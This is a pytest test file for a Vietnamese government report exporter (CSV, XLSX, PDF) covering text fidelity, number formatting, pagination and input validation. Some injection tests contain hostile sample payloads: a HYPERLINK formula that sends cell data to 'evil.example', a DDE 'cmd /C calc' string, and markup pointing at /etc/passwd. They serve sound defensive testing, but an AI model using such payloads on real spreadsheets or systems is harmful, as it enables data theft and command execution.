"""Exports a ministry accepts (nguon.documents): CSV read back with the csv module, XLSX with
openpyxl, PDF through the real ``pdftotext``; Vietnamese text comes back intact, formulas and
markup in the data stay text, bad input is cleaned or refused clearly, never a crash."""

from datetime import date
from datetime import datetime
from datetime import timedelta
from datetime import timezone
from decimal import Decimal
from hypothesis import example
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st
from io import BytesIO
from nguon.documents import Chart
from nguon.documents import Column
from nguon.documents import Document
from nguon.documents import DocumentError
from nguon.documents import Labels
from nguon.documents import Section
from nguon.documents import Table
from nguon.documents import to_csv
from nguon.documents import to_pdf
from nguon.documents import to_xlsx
from nguon.documents.model import clean_text
from nguon.documents.model import MAX_CELL
from nguon.documents.numbers import formatted
from nguon.documents.numbers import number
from nguon.documents.tabular import defused
from pathlib import Path

import csv
import io
import openpyxl
import pytest
import shutil
import subprocess
import unicodedata


ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts" / "documents"
COLUMNS = [
    Column("unit", "Đơn vị"),
    Column("items", "Số tin thiết yếu", "count"),
    Column("coverage", "Tỷ lệ đến người dân", "percent"),
    Column("hours", "Giờ phát thanh", "hours"),
    Column("delay", "Phút từ duyệt đến phát", "minutes"),
    Column("since", "Ngày bắt đầu", "date"),
]
ROWS = [
    ["Phường Thuận Hóa", 1234, 0.985, 1234.5, 12.25, date(2026, 10, 1)],
    {"unit": "Xã Phú Vang", "items": 87, "coverage": Decimal("0.5"), "hours": 310},
    ["Phường Hương Thủy", 0, 0, None, None, datetime(2026, 11, 2, 14, 5)],
]


def essential_table(**more):
    return Table("Thông tin thiết yếu theo đơn vị", COLUMNS, ROWS, **more)


def report(**more):
    charted = essential_table(
        chart=Chart("bar", "unit", ["items"], "Số tin thiết yếu đã đưa"),
        note="Nguồn: sổ giao nhận của hệ thống.",
    )
    trend = Table(
        "Tỷ lệ đến người dân theo tháng",
        [Column("month", "Tháng"), Column("coverage", "Tỷ lệ", "percent")],
        [["Tháng 10", 0.92], ["Tháng 11", 0.97], ["Tháng 12", None]],
        chart=Chart("line", "month", ["coverage"]),
    )
    fields = dict(
        title="Báo cáo công tác thông tin cơ sở năm 2026",
        subtitle="Thông tin thiết yếu đến người dân",
        unit="Phường Thuận Hóa",
        period="Năm 2026",
        sections=[
            Section(
                "I. Thông tin thiết yếu",
                [charted, trend],
                ("Kết quả đưa tin đến dân.",),
            ),
            Section("II. Thiết bị", [Table("Đài truyền thanh", COLUMNS[:2], [])]),
        ],
        signed_by="Nguyễn Thị Hồng Nhung",
        signed_at=date(2026, 12, 5),
        signer_title="Chủ tịch",
        place="Thuận Hóa",
        notes=("Số liệu tính đến ngày 30/11/2026.",),
    )
    fields.update(more)
    return Document(**fields)


def read_csv(data):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8")[1:], newline="")))


def read_xlsx(data):
    return openpyxl.load_workbook(BytesIO(data))


def pdf_text(data, name):
    """The text ``pdftotext`` (poppler) finds in the PDF; the PDF is kept for inspection."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    path = ARTIFACTS / f"{name}.pdf"
    path.write_bytes(data)
    result = subprocess.run(
        [shutil.which("pdftotext") or "pdftotext", "-enc", "UTF-8", str(path), "-"],
        capture_output=True,
        check=True,
        timeout=60,
    )
    return unicodedata.normalize("NFC", result.stdout.decode("utf-8"))


def sheet_values(sheet):
    return [
        value for row in sheet.iter_rows(values_only=True) for value in row if value
    ]


# --- CSV ---


def test_csv_reads_back_with_vietnamese_text_and_a_bom():
    rows = read_csv(to_csv(essential_table()))
    assert rows[0] == [column.title for column in COLUMNS]
    assert rows[1] == [
        "Phường Thuận Hóa",
        "1234",
        "0.985",
        "1234.5",
        "12.25",
        "2026-10-01",
    ]
    assert rows[2] == ["Xã Phú Vang", "87", "0.5", "310", "", ""]
    assert rows[3] == ["Phường Hương Thủy", "0", "0", "", "", "2026-11-02T14:05:00"]


def test_csv_of_an_empty_table_is_its_header():
    table = Table("Trống", COLUMNS, [])
    assert read_csv(to_csv(table)) == [[column.title for column in COLUMNS]]


def test_csv_injection_a_formula_in_the_data_is_written_as_text():
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    table = Table(
        "Tin", [Column("title", "Tiêu đề")], [[attack], ["+1"], ["@SUM(A1)"], ["-2"]]
    )
    assert [row[0] for row in read_csv(to_csv(table))[1:]] == [
        "'" + attack,
        "'+1",
        "'@SUM(A1)",
        "'-2",
    ]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_csv_carries_any_text(texts):
    table = Table(
        "Bất kỳ", [Column(f"c{i}", f"Cột {i}") for i in range(len(texts))], [texts]
    )
    rows = read_csv(to_csv(table))
    assert rows[1] == [defused(clean_text(text)) for text in texts]


# --- XLSX ---


def test_xlsx_reads_back_with_sheets_values_formats_and_chart():
    workbook = read_xlsx(to_xlsx(report()))
    assert workbook.sheetnames == ["I. Thông tin thiết yếu", "II. Thiết bị"]
    assert workbook.properties.title == "Báo cáo công tác thông tin cơ sở năm 2026"
    assert workbook.properties.creator == "Phường Thuận Hóa"
    sheet = workbook["I. Thông tin thiết yếu"]
    rows = [row for row in sheet.iter_rows() if row[0].value == "Phường Thuận Hóa"]
    assert len(rows) == 1
    unit, items, coverage, hours, delay, since = rows[0][:6]
    assert (items.value, coverage.value, hours.value, delay.value) == (
        1234,
        0.985,
        1234.5,
        12.25,
    )
    assert since.value == datetime(2026, 10, 1)
    assert items.number_format == "#,##0"
    assert coverage.number_format == "0.0%"
    assert since.number_format == "dd/mm/yyyy"
    assert sheet.column_dimensions["A"].width >= len("Phường Hương Thủy")
    header = next(row for row in sheet.iter_rows() if row[0].value == "Đơn vị")
    assert header[0].font.bold
    assert len(sheet._charts) == 2  # the bar chart and the line chart
    values = sheet_values(sheet)
    assert "Thông tin thiết yếu theo đơn vị" in values
    assert "Nguồn: sổ giao nhận của hệ thống." in values
    last = sheet_values(workbook["II. Thiết bị"])
    assert "Không có số liệu" in last  # the empty table says so
    assert "Người ký: Chủ tịch, Nguyễn Thị Hồng Nhung" in last
    assert "- Số liệu tính đến ngày 30/11/2026." in last


def test_xlsx_formula_in_the_data_stays_text():
    attack = '=HYPERLINK("http://evil.example/","Bấm")'
    document = report(
        sections=[
            Section(
                "=cmd|' /C calc'!A0", [Table(attack, [Column("t", attack)], [[attack]])]
            )
        ]
    )
    workbook = read_xlsx(to_xlsx(document))
    sheet = workbook.worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == attack]
    assert len(cells) == 3  # the table's title, its column's title, the value
    assert all(cell.data_type == "s" for cell in cells)
    assert sheet.title == "=cmd|' C calc'!A0"


def test_xlsx_sheet_names_are_made_valid_and_unique():
    sections = [
        Section("Báo cáo: quý [IV]/2026 * ? \\ rất dài dài dài dài dài"),
        Section("Báo cáo: quý [IV]/2026 * ? \\ rất dài dài dài dài dài"),
        Section(""),
        Section("History"),
    ]
    names = read_xlsx(to_xlsx(report(sections=sections))).sheetnames
    assert names == [
        "Báo cáo quý IV 2026 rất dài dài",
        "Báo cáo quý IV 2026 rất dài (2)",
        "Bảng 3",
        "History (2)",
    ]


def test_xlsx_of_a_document_without_sections_has_one_sheet():
    workbook = read_xlsx(to_xlsx(report(sections=[])))
    assert len(workbook.sheetnames) == 1


def test_xlsx_aware_datetimes_keep_their_wall_clock_time():
    hanoi = timezone(timedelta(hours=7))
    table = Table(
        "Giờ",
        [Column("at", "Lúc", "date")],
        [[datetime(2026, 11, 30, 8, 0, tzinfo=hanoi)]],
    )
    workbook = read_xlsx(to_xlsx(report(sections=[Section("Giờ", [table])])))
    assert datetime(2026, 11, 30, 8, 0) in sheet_values(workbook.worksheets[0])


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=3))
@example(["_x0041_ (an Excel escape)", " lề trái", "lề phải ", "中文 😀 \u2028"])
def test_xlsx_carries_any_text(texts):
    columns = [Column(f"c{i}", f"Cột {i}") for i in range(len(texts))]
    table = Table("Bất kỳ", columns, [texts])
    sheet = read_xlsx(
        to_xlsx(report(sections=[Section("Bất kỳ", [table])]))
    ).worksheets[0]
    header = next(
        i
        for i, row in enumerate(sheet.iter_rows(values_only=True), 1)
        if row[0] == "Cột 0"
    )
    written = [cell.value for cell in sheet[header + 1]][: len(texts)]
    assert written == [clean_text(text) or None for text in texts]


# --- PDF ---


def test_pdf_text_comes_back_intact_through_pdftotext():
    text = pdf_text(
        to_pdf(report(title="Báo cáo công tác thông tin cơ sở năm 2026")), "report"
    )
    for expected in (
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "PHƯỜNG THUẬN HÓA",
        "Thuận Hóa, ngày 05 tháng 12 năm 2026",
        "Báo cáo công tác thông tin cơ sở năm 2026",
        "Thông tin thiết yếu đến người dân",
        "Kỳ báo cáo: Năm 2026",
        "Thông tin thiết yếu theo đơn vị",
        "Phường Thuận Hóa",
        "Xã Phú Vang",
        "Phường Hương Thủy",
        "Nguồn: sổ giao nhận của hệ thống.",
        "Không có số liệu",
        "CHỦ TỊCH",
        "(Đã ký)",
        "Nguyễn Thị Hồng Nhung",
        "Số liệu tính đến ngày 30/11/2026.",
    ):
        assert expected in text, expected
    assert "BẢN NHÁP" not in text


def test_pdf_figures_are_written_the_vietnamese_way():
    text = pdf_text(to_pdf(report()), "figures")
    for figure in (
        "1.234",
        "98,5%",
        "1.234,5",
        "12,3",
        "01/10/2026",
        "02/11/2026 14:05",
    ):
        assert figure in text, figure


def test_pdf_pages_are_numbered_and_header_rows_repeat():
    rows = [[f"Xã số {n}", n, n / 200, n * 1.5, 3, None] for n in range(150)]
    document = report(
        sections=[Section("Các xã", [Table("Danh sách xã", COLUMNS, rows)])]
    )
    text = pdf_text(to_pdf(document), "long")
    pages = text.split("\f")[:-1]
    assert len(pages) >= 3
    for number_, page in enumerate(pages, 1):
        assert f"Trang {number_}/{len(pages)}" in page
        if "Xã số" in page:  # the header row, on every page of the table
            assert "Số tin thiết yếu" in page
    assert "Xã số 149" in text


def test_pdf_of_an_unsigned_document_says_it_is_a_draft():
    text = pdf_text(to_pdf(report(signed_at=None)), "draft")
    assert "BẢN NHÁP - CHƯA KÝ DUYỆT" in text
    assert "(Đã ký)" not in text


def test_pdf_markup_in_the_data_prints_as_itself():
    hostile = '<font size="90">to</font> & <b>đậm</b> <img src="/etc/passwd"/> <'
    table = Table(hostile, [Column("t", "Tiêu đề")], [[hostile]])
    text = pdf_text(to_pdf(report(sections=[Section(hostile, [table])])), "markup")
    assert text.count('<font size="90">to</font> & <b>đậm</b>') == 3


def test_pdf_very_long_cells_are_cut_not_a_crash():
    table = Table(
        "Dài",
        [Column(f"c{i}", f"Cột {i}") for i in range(8)],
        [["Thông tin " * 4000, "x" * 40000, "\n".join(["dòng"] * 3000)] + ["ngắn"] * 5],
    )
    text = pdf_text(to_pdf(report(sections=[Section("Dài", [table])])), "long-cells")
    assert "…" in text
    assert "ngắn" in text


@settings(max_examples=25, deadline=None)
@given(st.text(max_size=300))
def test_pdf_takes_any_text(text):
    table = Table(
        text,
        [Column("a", text), Column("b", text, "count")],
        [[text, 1], [text, None]],
        chart=Chart("line", "a", ["b"], text),
        note=text,
    )
    document = report(
        title=text,
        unit=text,
        sections=[Section(text, [table], (text,))],
        notes=(text,),
        signed_by=text,
        signer_title=text,
        place=text,
    )
    assert to_pdf(document).startswith(b"%PDF-")


def test_pdf_other_labels_replace_the_vietnamese_ones():
    labels = Labels(page="Page {page} of {pages}", signed="(Signed)", empty="No data")
    text = pdf_text(to_pdf(report(labels=labels)), "english")
    assert "Page 1 of" in text
    assert "(Signed)" in text
    assert "No data" in text


def test_pdf_chart_of_only_empty_cells_is_left_out():
    table = Table(
        "Trống",
        [Column("m", "Tháng"), Column("v", "Số", "count")],
        [["Tháng 1", None]],
        chart=Chart("bar", "m", ["v"]),
    )
    assert to_pdf(report(sections=[Section("Trống", [table])])).startswith(b"%PDF")


def test_every_export_carries_xml_illegal_characters_cleaned():
    dirty = "Phường\x00 Thuận\x0b Hóa\ufffe\ud800\r\n"
    table = Table(dirty, [Column("t", dirty)], [[dirty]])
    document = report(title=dirty, sections=[Section(dirty, [table])])
    assert clean_text(dirty) == "Phường Thuận Hóa\n"
    assert read_csv(to_csv(table))[1] == ["Phường Thuận Hóa\n"]
    assert "Phường Thuận Hóa\n" in sheet_values(
        read_xlsx(to_xlsx(document)).worksheets[0]
    )
    assert "Phường Thuận Hóa" in pdf_text(to_pdf(document), "dirty")


def test_text_is_normalised_to_precomposed_letters():
    decomposed = unicodedata.normalize("NFD", "Nghệ An")
    assert decomposed != "Nghệ An"
    assert clean_text(decomposed) == "Nghệ An"


def test_text_longer_than_a_cell_is_cut():
    cut = clean_text("a" * (MAX_CELL + 10))
    assert len(cut) == MAX_CELL
    assert cut.endswith("…")


# --- numbers ---


def test_vietnamese_numbers():
    assert number(1234.5, 1) == "1.234,5"
    assert number(0.25, 1) == "0,3"  # half up, as people round
    assert number(Decimal("2.675"), 2) == "2,68"
    assert number(-1234567) == "-1.234.567"
    assert formatted(0.985, "percent") == "98,5%"
    assert formatted(12, "count") == "12"
    assert formatted(None, "hours") == ""
    assert formatted(date(2026, 12, 5), "date") == "05/12/2026"


# --- refusals ---


@pytest.mark.parametrize(
    ("build", "message"),
    [
        (lambda: Column("a", "A", "money"), "unknown kind 'money'"),
        (
            lambda: Table("T", [Column("n", "N", "count")], [["12"]]),
            "row 1, column 'n': a number",
        ),
        (
            lambda: Table("T", [Column("n", "N", "count")], [[True]]),
            "a number is expected",
        ),
        (
            lambda: Table("T", [Column("n", "N", "hours")], [[float("nan")]]),
            "not a finite",
        ),
        (
            lambda: Table("T", [Column("n", "N", "hours")], [[Decimal("Infinity")]]),
            "not a finite",
        ),
        (
            lambda: Table("T", [Column("d", "D", "date")], [["2026-11-30"]]),
            "a date is expected",
        ),
        (
            lambda: Table("T", [Column("a", "A")], [["x", "y"]]),
            "row 1: 2 values for 1 columns",
        ),
        (lambda: Table("T", [Column("a", "A")], ["x"]), "a list or a dict"),
        (lambda: Table("T", [], []), "no columns"),
        (
            lambda: Table("T", [Column("a", "A"), Column("a", "B")], []),
            "column keys repeat",
        ),
        (
            lambda: Table("T", [Column("a", "A")], [], chart=Chart("bar", "b", ["a"])),
            "is no column",
        ),
        (
            lambda: Table("T", [Column("a", "A")], [], chart=Chart("bar", "a", ["a"])),
            "no numeric",
        ),
        (
            lambda: Table(
                "T",
                [
                    Column("a", "A"),
                    Column("n", "N", "count"),
                    Column("p", "P", "percent"),
                ],
                [],
                chart=Chart("bar", "a", ["n", "p"]),
            ),
            "share one kind",
        ),
        (lambda: Chart("pie", "a", ["b"]), "'bar' or 'line'"),
        (lambda: Chart("bar", "a", []), "no series"),
        (lambda: report(sections=[essential_table()]), "Section objects"),
        (lambda: report(signed_at="05/12/2026"), "signed_at: a date"),
    ],
)
def test_bad_input_is_refused_with_a_clear_error(build, message):
    with pytest.raises(
        DocumentError, match=message.replace("(", r"\(").replace(")", r"\)")
    ):
        build()


def test_dict_rows_ignore_keys_that_are_no_column():
    table = Table("T", [Column("a", "A")], [{"a": "x", "uid": "123"}])
    assert table.rows == [("x",)]
